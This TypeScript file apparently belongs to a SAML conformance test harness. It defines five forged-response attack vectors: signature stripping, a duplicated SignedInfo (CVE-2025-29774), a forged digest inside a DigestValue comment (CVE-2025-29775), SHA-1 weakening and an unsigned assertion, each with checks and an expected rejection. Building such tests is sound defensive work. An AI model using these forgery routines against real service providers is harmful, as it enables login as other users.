/**
 * Attacks on the signature itself: none at all, a second SignedInfo, a comment in DigestValue, SHA-1,
 * and an assertion the signature does not cover by itself (a key the SP never pinned: keys.ts).
 * @see SAML 2.0 Core §5.4, Profiles §4.1.4.2 (the assertion MUST be signed where the SP requires it),
 *   XML Signature §3.2 (core validation), docs/conformance.md "SAML 2.0"
 */
import { DIGEST_URI, NS, SIGNATURE_URI, childElements, newSamlId, serialize } from '#harness/saml';
import {
  COMMENT_NODE,
  createLike,
  dsChild,
  elementsWithId,
  prepare,
  retarget,
  signatureOf,
  stripSignatures,
} from './dom.js';
import {
  allSignatures,
  assertionIn,
  canonicalText,
  digestOf,
  ensure,
  nameIdText,
  onlySend,
  ensureSignedInPlace,
  signedCopies,
  signedInfoVerifies,
} from './inspect.js';
import { ensureDefects, ensureVictimLogin } from './conditions.js';
import type { AttackVector } from './types.js';

const signatureStripped: AttackVector = {
  id: 'signature-stripped',
  title: 'Signature stripped: an unsigned response for the attacker',
  expect: 'reject',
  bypassIdentity: 'attacker',
  signs: 'none',
  cites: ['SAML-SIGNATURE'],
  references: ['SAML 2.0 Profiles §4.1.4.2', 'SAML 2.0 Core §5.4'],
  async build(ctx) {
    const { doc, assertion } = await prepare(ctx, ctx.victim);
    stripSignatures(doc);
    retarget(assertion, ctx.victim, ctx.attacker);
    return {
      sends: [serialize(doc)],
      description:
        `A legitimate response with every ds:Signature removed and the NameID changed to ${ctx.attacker}. ` +
        'A vulnerable SP verifies a signature only when one is present, and logs the attacker in.',
    };
  },
  async check(ctx, built) {
    const { doc } = onlySend('signature-stripped', built.sends);
    ensure(allSignatures(doc).length === 0, 'signature-stripped', 'the message still carries a ds:Signature');
    ensureDefects('signature-stripped', ctx, doc.documentElement!, []);
    ensure(
      nameIdText(assertionIn('signature-stripped', doc.documentElement!)) === ctx.attacker,
      'signature-stripped',
      `the NameID is not the attacker '${ctx.attacker}'`,
    );
  },
};

const twoSignedInfo: AttackVector = {
  id: 'two-signedinfo',
  title: 'Two SignedInfo: the signed one points at a moved copy, a forged second one at the forged assertion',
  expect: 'reject',
  bypassIdentity: 'attacker',
  signs: 'assertion',
  cites: ['SAML-SIGNEDINFO'],
  references: ['CVE-2025-29774 (xml-crypto)', 'XML Signature §4.1 (one SignedInfo per Signature)'],
  async build(ctx) {
    const { doc, response, assertion } = await prepare(ctx, ctx.victim, { assertion: true, response: false });
    const signature = signatureOf(assertion)!;
    const signedInfo = dsChild(signature, 'SignedInfo')!;
    // The signed original moves into samlp:Extensions, keeping its ID, so the first SignedInfo still verifies.
    const original = assertion.cloneNode(true) as Element;
    original.removeChild(signatureOf(original)!);
    const extensions = createLike(doc, NS.samlp, response, 'Extensions');
    extensions.appendChild(original);
    response.insertBefore(extensions, childElements(response, NS.samlp, 'Status')[0] ?? assertion);
    // The assertion left in place becomes the attacker's, with a new ID and a second SignedInfo whose Reference
    // (digest computed by the attacker, no key needed) points at it; the SignatureValue still covers only the first.
    const forgedId = newSamlId();
    assertion.setAttribute('ID', forgedId);
    retarget(assertion, ctx.victim, ctx.attacker);
    const forgedInfo = signedInfo.cloneNode(true) as Element;
    const reference = dsChild(forgedInfo, 'Reference')!;
    reference.setAttribute('URI', `#${forgedId}`);
    const digestValue = dsChild(reference, 'DigestValue')!;
    while (digestValue.firstChild) digestValue.removeChild(digestValue.firstChild);
    digestValue.appendChild(doc.createTextNode(digestOf(assertion)));
    signature.insertBefore(forgedInfo, signedInfo.nextSibling);
    return {
      sends: [serialize(doc)],
      description:
        `The signed assertion for ${ctx.victim} moved into samlp:Extensions; the assertion in its place names ` +
        `${ctx.attacker} and its ds:Signature holds the original SignedInfo (pointing at the moved copy) plus a second ` +
        'SignedInfo pointing at the forgery. A vulnerable verifier (xml-crypto before 6.0.1) checks the SignatureValue ' +
        'against the first SignedInfo but takes references from both, and the SP reads the forged assertion.',
    };
  },
  async check(ctx, built) {
    const { doc } = onlySend('two-signedinfo', built.sends);
    const response = doc.documentElement!;
    const forged = childElements(response, NS.saml, 'Assertion')[0];
    ensure(forged, 'two-signedinfo', 'the Response has no Assertion child');
    const signature = signatureOf(forged);
    ensure(signature, 'two-signedinfo', 'the assertion read by the SP carries no ds:Signature');
    const infos = childElements(signature, NS.ds, 'SignedInfo');
    ensure(
      infos.length === 2,
      'two-signedinfo',
      `the ds:Signature must hold two SignedInfo, found ${infos.length}`,
    );
    const [signedInfo, forgedInfo] = infos as [Element, Element];
    ensure(
      signedInfoVerifies(signature, signedInfo, ctx.idpKey),
      'two-signedinfo',
      'the SignatureValue does not verify over the first SignedInfo with the IdP key',
    );
    const copy = signedCopies(doc, ctx.idpKey).find(
      ({ element }) => element !== forged && element.localName === 'Assertion',
    );
    ensure(
      copy && nameIdText(copy.element) === ctx.victim,
      'two-signedinfo',
      `no intact signed assertion for '${ctx.victim}' is left in the message`,
    );
    const forgedUri = dsChild(forgedInfo, 'Reference')?.getAttribute('URI');
    ensure(
      forgedUri === `#${forged.getAttribute('ID') ?? ''}`,
      'two-signedinfo',
      'the second SignedInfo does not reference the forged assertion',
    );
    ensure(
      elementsWithId(doc, forged.getAttribute('ID') ?? '').length === 1,
      'two-signedinfo',
      'the forged assertion ID is not unique',
    );
    const forgedDigest = dsChild(dsChild(forgedInfo, 'Reference')!, 'DigestValue');
    ensure(
      forgedDigest && canonicalText(forgedDigest) === digestOf(forged),
      'two-signedinfo',
      'the second SignedInfo’s DigestValue is not the digest of the forged assertion',
    );
    ensure(
      nameIdText(forged) === ctx.attacker,
      'two-signedinfo',
      `the forged assertion does not name the attacker '${ctx.attacker}'`,
    );
  },
};

const commentInDigest: AttackVector = {
  id: 'comment-in-digest',
  title: 'Comment in DigestValue: the forged digest in a comment, the signed digest after it',
  expect: 'reject',
  bypassIdentity: 'attacker',
  signs: 'assertion',
  cites: ['SAML-DIGEST-COMMENT'],
  references: ['CVE-2025-29775 (xml-crypto)', 'Exclusive XML Canonicalization §3 (comments removed)'],
  async build(ctx) {
    const { doc, assertion } = await prepare(ctx, ctx.victim, { assertion: true, response: false });
    retarget(assertion, ctx.victim, ctx.attacker);
    const signature = signatureOf(assertion)!;
    const digestValue = dsChild(dsChild(dsChild(signature, 'SignedInfo')!, 'Reference')!, 'DigestValue')!;
    // c14n drops the comment, so the SignatureValue still covers the original digest; a verifier that reads the
    // DigestValue's first child's data compares the edited assertion with the forged digest instead.
    digestValue.insertBefore(doc.createComment(digestOf(assertion)), digestValue.firstChild);
    return {
      sends: [serialize(doc)],
      description:
        `The signed assertion edited in place to name ${ctx.attacker}; its DigestValue reads ` +
        '<!--digest of the edited assertion-->original digest. Canonicalization removes the comment, so the ' +
        'SignatureValue still verifies; a vulnerable verifier (xml-crypto before 6.0.1) reads the comment as the digest.',
    };
  },
  async check(ctx, built) {
    const { doc } = onlySend('comment-in-digest', built.sends);
    const assertion = childElements(doc.documentElement!, NS.saml, 'Assertion')[0];
    ensure(assertion, 'comment-in-digest', 'the Response has no Assertion child');
    const signature = signatureOf(assertion);
    const signedInfo = signature && dsChild(signature, 'SignedInfo');
    const digestValue = signedInfo && dsChild(dsChild(signedInfo, 'Reference') ?? signedInfo, 'DigestValue');
    ensure(
      signature && signedInfo && digestValue,
      'comment-in-digest',
      'the assertion carries no ds:Signature with a DigestValue',
    );
    ensure(
      signedInfoVerifies(signature, signedInfo, ctx.idpKey),
      'comment-in-digest',
      'the SignatureValue does not verify over SignedInfo with the IdP key',
    );
    const first = digestValue.firstChild;
    const actual = digestOf(assertion);
    ensure(
      first?.nodeType === COMMENT_NODE && (first as Comment).data === actual,
      'comment-in-digest',
      'DigestValue does not start with a comment holding the digest of the assertion as sent',
    );
    ensure(
      canonicalText(digestValue) !== actual,
      'comment-in-digest',
      'the signed digest matches the assertion: nothing was forged',
    );
    ensure(
      nameIdText(assertion) === ctx.attacker,
      'comment-in-digest',
      `the assertion does not name the attacker '${ctx.attacker}'`,
    );
  },
};

const sha1: AttackVector = {
  id: 'sha1-under-sha256',
  title: 'RSA-SHA1 signature and SHA-1 digest where SHA-256 is required',
  expect: 'reject',
  bypassIdentity: 'victim',
  signs: 'as-legit',
  cites: ['SAML-SHA1'],
  references: ['RFC 6931 §2.3.2', 'SAML 2.0 Core §5.4.1', 'NIST SP 800-131A (SHA-1 signatures disallowed)'],
  async build(ctx) {
    const { doc, plan } = await prepare(ctx, ctx.victim, { algorithm: 'rsa-sha1' });
    ensure(
      plan.assertion || plan.response,
      'sha1-under-sha256',
      'ctx.legit signs nothing, so there is no algorithm to weaken',
    );
    return {
      sends: [serialize(doc)],
      description:
        `A legitimate response for ${ctx.victim} signed by the IdP key with RSA-SHA1 and SHA-1 digests. A vulnerable ` +
        'SP accepts whatever algorithm the message names, so a SHA-1 collision forgery would pass.',
    };
  },
  async check(ctx, built) {
    const { doc } = onlySend('sha1-under-sha256', built.sends);
    const signatures = allSignatures(doc);
    ensure(signatures.length > 0, 'sha1-under-sha256', 'the message carries no signature');
    for (const signature of signatures) {
      const method = signature
        .getElementsByTagNameNS(NS.ds, 'SignatureMethod')
        .item(0)
        ?.getAttribute('Algorithm');
      const digest = signature
        .getElementsByTagNameNS(NS.ds, 'DigestMethod')
        .item(0)
        ?.getAttribute('Algorithm');
      ensure(
        method === SIGNATURE_URI['rsa-sha1'],
        'sha1-under-sha256',
        `SignatureMethod is ${method ?? '(none)'}, not RSA-SHA1`,
      );
      ensure(
        digest === DIGEST_URI['rsa-sha1'],
        'sha1-under-sha256',
        `DigestMethod is ${digest ?? '(none)'}, not SHA-1`,
      );
    }
    ensureSignedInPlace('sha1-under-sha256', doc, ctx.idpKey);
    ensureDefects('sha1-under-sha256', ctx, doc.documentElement!, []);
    ensure(
      nameIdText(assertionIn('sha1-under-sha256', doc.documentElement!)) === ctx.victim,
      'sha1-under-sha256',
      'the NameID is not the victim',
    );
  },
};

const unsignedAssertion: AttackVector = {
  id: 'unsigned-assertion-in-signed-response',
  title:
    'An unsigned assertion inside a validly signed Response, for an SP that requires the assertion signed',
  expect: 'reject',
  bypassIdentity: 'victim',
  signs: 'response',
  requires: { signedAssertion: true },
  cites: ['SAML-ASSERTION-SIGNED'],
  references: ['SAML 2.0 Profiles §4.1.4.2 (WantAssertionsSigned)', 'SAML 2.0 Metadata §2.4.4'],
  async build(ctx) {
    const { doc } = await prepare(ctx, ctx.victim, { assertion: false, response: true });
    return {
      sends: [serialize(doc)],
      description:
        `A response for ${ctx.victim} whose Response signature (by the IdP key) is valid and covers the assertion, ` +
        'but the assertion carries no signature of its own. Only a finding where the SP requires signed assertions ' +
        '(WantAssertionsSigned): a vulnerable one accepts the Response signature instead, so an assertion lifted ' +
        'out of its Response would no longer be protected.',
    };
  },
  async check(ctx, built) {
    const { doc } = onlySend('unsigned-assertion-in-signed-response', built.sends);
    const { response, assertion } = ensureVictimLogin('unsigned-assertion-in-signed-response', ctx, doc);
    ensure(!signatureOf(assertion), 'unsigned-assertion-in-signed-response', 'the assertion is signed');
    ensure(signatureOf(response), 'unsigned-assertion-in-signed-response', 'the Response is not signed');
  },
};

/** Signature attacks. */
export const signatureVectors: readonly AttackVector[] = [
  signatureStripped,
  twoSignedInfo,
  commentInDigest,
  sha1,
  unsignedAssertion,
];
